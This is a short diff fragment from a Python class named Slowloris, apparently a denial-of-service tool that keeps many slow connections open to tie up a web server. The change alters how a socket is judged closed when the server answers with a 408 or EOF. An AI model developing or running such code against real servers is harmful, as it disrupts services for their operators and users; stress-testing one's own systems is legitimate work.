@@ -82,8 +82,8 @@ class Slowloris(threading.Thread):
     def drip(self, i: int) -> None:
         sock = self.socks[i]
         try:
-            if sock.recv(4096) == b"":  # the server closed it (EOF)
-                raise ConnectionResetError
+            sock.recv(4096)  # an answer (a 408) or EOF: the server is done with it
+            raise ConnectionResetError
         except BlockingIOError:
             pass  # nothing to read: still open
         except OSError:
